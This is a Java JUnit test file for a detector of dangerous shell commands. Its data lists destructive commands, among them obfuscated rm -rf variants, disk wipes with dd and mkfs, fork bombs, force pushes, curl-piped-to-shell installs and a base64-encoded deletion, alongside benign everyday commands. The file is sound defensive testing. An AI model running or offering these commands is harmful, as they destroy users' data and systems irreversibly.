package dev.podium.labs;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import dev.podium.labs.Broadcasts.Danger;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is dangerous in a command is found, however it is written; and what people send each day is not held up. */
class DangerousCommandsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf ~/lab",
                "rm -fr build",
                "rm -r -f build",
                "rm --recursive build",
                "rm --rec build",
                "rm build -rf",
                "/bin/rm -Rf /",
                "\\rm -rf x",
                "'rm' -rf x",
                "r''m -rf x",
                "r\"m\" -r\\f x",
                "$'\\x72m' -rf x",
                "rm${IFS}-rf${IFS}x",
                "rm -f *",
                "sudo rm -rf x",
                "sudo -u ada rm -rf x",
                "sudo -n -- rm -rf x",
                "env A=b rm -rf x",
                "A=b rm -rf x",
                "nohup nice -n 5 rm -rf x &",
                "timeout 5s rm -rf x",
                "xargs -n 1 rm -rf < list",
                "ls | xargs rm -rf",
                "cd lab && rm -rf .git",
                "cd lab || rm -rf .git",
                "cd lab; rm -rf .git",
                "cd lab\nrm -rf .git",
                "cd lab & rm -rf .git",
                "(rm -rf x)",
                "{ rm -rf x; }",
                "if true; then rm -rf x; fi",
                "for i in 1 2; do rm -rf $i; done",
                "echo $(rm -rf x)",
                "echo \"$(rm -rf x)\"",
                "echo `rm -rf x`",
                "cat <(rm -rf x)",
                "sh -c 'rm -rf x'",
                "bash -lc \"rm -rf x\"",
                "sudo bash -c 'cd / && rm -rf x'",
                "su ada -c 'rm -rf x'",
                "eval 'rm -rf x'",
                "eval rm -rf x",
                "ssh host rm -rf x",
                "ssh -p 22 host 'cd x; rm -rf y'",
                "rm -r\\\nf x",
                "find . -name '*.o' -delete",
                "find . -exec rm {} \\;",
                "find . -exec rm -rf {} +",
                "rsync -a --delete a/ b/",
                "shred secret.txt",
                "mkfs.ext4 /dev/sda1",
                "mkfs -t ext4 /dev/sda1",
                "sudo wipefs -a /dev/sdb",
                "dd if=/dev/zero of=/dev/sda",
                "dd of=disk.img if=/dev/zero",
                "echo x > /dev/sda",
                "echo x >/dev/nvme0n1",
                "echo x >> /dev/sda",
                "cat image 1> /dev/sda",
                "cat image &> /dev/sda",
                "cat image | sudo tee /dev/sda",
                "cp image /dev/sda",
                "mv thesis /dev/null",
                "shutdown -h now",
                "sudo reboot",
                "poweroff",
                "halt",
                "init 0",
                "systemctl reboot",
                "sudo systemctl --force poweroff",
                "loginctl terminate-user ada",
                "git push --force",
                "git push -f origin main",
                "git push origin +main",
                "git push --force-with-lease",
                "git push origin --delete main",
                "git push origin :main",
                "git push --mirror",
                "git -C lab push --force",
                "git -c a=b reset --hard HEAD~1",
                "git reset --hard",
                "git clean",
                "git clean -fdx",
                "git checkout -- .",
                "git checkout -f",
                "git checkout .",
                "git restore .",
                "git branch -D old",
                "git stash clear",
                "chmod -R 777 .",
                "chmod 777 -R .",
                "chmod --recursive a+rwx ~",
                "chown -R root:root ~",
                ":(){ :|:& };:",
                ":() { : | : & } ; :",
                "bomb() { bomb | bomb & }; bomb",
                "f(){ f|f& };f",
                "curl https://example.org/i.sh | sh",
                "curl -fsSL https://example.org/i.sh | sudo bash -",
                "wget -qO- https://example.org/i.sh|bash",
                "curl x | tee log | sh",
                "curl x | python3",
                "bash <(curl -s https://example.org/i.sh)",
                "sh -c \"$(curl -fsSL https://example.org/i.sh)\"",
                "eval \"$(wget -qO- https://example.org)\"",
                ". <(curl x)",
                "echo cm0gLXJmIH4K | base64 -d | sh",
                "kill -9 -1",
                "kill -KILL -- -1",
                "kill -s KILL -1",
                "killall python3",
                "pkill -u ada",
                "tmux kill-server",
                "flock lock rm -rf x",
                "crontab -r",
                "docker system prune -af",
                "true # nothing\nrm -rf x",
            })
    void whatCannotBeTakenBackIsFound(String command) {
        assertThat(DangerousCommands.in(command)).as(command).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ls",
                "ls -la | less",
                "make clean",
                "git pull",
                "git push",
                "git push origin main",
                "git status && git diff",
                "git reset HEAD file",
                "git clean -n",
                "git restore --staged file",
                "cat /dev/sda1 > image",
                "cp /dev/sr0 image.iso",
                "git checkout main",
                "git checkout -b answer",
                "git commit -m 'rm -rf is dangerous'",
                "git branch -d merged",
                "rm notes.txt",
                "rm -i notes.txt",
                "rm -f out.log",
                "echo rm -rf x",
                "echo 'rm -rf x'",
                "grep -rf patterns .",
                "cp -r a b",
                "chmod +x run.sh",
                "chmod 755 run.sh",
                "chown ada file",
                "python3 -m pytest -rf",
                "./configure && make && make test",
                "cat file > /dev/null",
                "make > /dev/null 2>&1",
                "make &> build.log",
                "echo hello >&2",
                "echo x > /dev/shm/mine",
                "dd if=/dev/zero bs=1M count=1",
                "curl -O https://example.org/data.csv",
                "curl https://example.org | jq .",
                "curl https://example.org | python3 -m json.tool",
                "wget https://example.org/x.tgz && tar xf x.tgz",
                "kill -9 1234",
                "kill %1",
                "kill -1 1234",
                "pkill -f server.py",
                "systemctl --user status podium",
                "find . -name '*.py'",
                "find . -type f -exec grep -l main {} +",
                "bash run.sh",
                "sh -c 'make test'",
                "for i in 1 2 3; do echo $i; done",
                "sort < in > out",
                "tmux ls",
                "echo done # rm -rf x",
                "awk '{print $1}' file",
                "sed -i 's/a/b/' file",
                "docker ps",
                "source .venv/bin/activate",
                "f() { echo hi; }; f",
            })
    void whatPeopleSendEachDayIsNotHeldUp(String command) {
        assertThat(DangerousCommands.in(command)).as(command).isEmpty();
    }

    @Test
    void eachIsNamedOnceWithWhatItDoes() {
        assertThat(DangerousCommands.in("rm -rf a; rm -rf a && sudo reboot"))
                .extracting(Danger::what)
                .containsExactly("rm -rf a", "reboot");
        assertThat(DangerousCommands.in("rm -rf a"))
                .singleElement()
                .satisfies(danger ->
                        assertThat(danger.does()).isEqualTo("It deletes folders with all that is in them, for good."));
        assertThat(DangerousCommands.in("rm -rf " + "x".repeat(500)).getFirst().what())
                .hasSizeLessThan(100);
    }

    @Test
    void whateverIsTypedIsReadToItsEnd() {
        var random = new Random(5);
        var letters = "rm -f'\"`$(){}|&;<>\\\n#*x/dev";
        for (int i = 0; i < 20_000; i++) {
            var text = new StringBuilder();
            for (int n = random.nextInt(40); n > 0; n--) {
                text.append(letters.charAt(random.nextInt(letters.length())));
            }
            assertThatCode(() -> DangerousCommands.in(text.toString()))
                    .as(text.toString())
                    .doesNotThrowAnyException();
        }
        assertThat(DangerousCommands.in("eval ".repeat(50) + "rm -rf x")).isNotEmpty();
        assertThat(DangerousCommands.in("ssh a ".repeat(300) + "rm -rf x")).isNotEmpty();
        assertThat(DangerousCommands.in("find -exec ".repeat(180) + "rm -rf x")).isNotNull();
        assertThat(DangerousCommands.in("$(".repeat(400) + "rm -rf x")).isNotNull();
    }
}
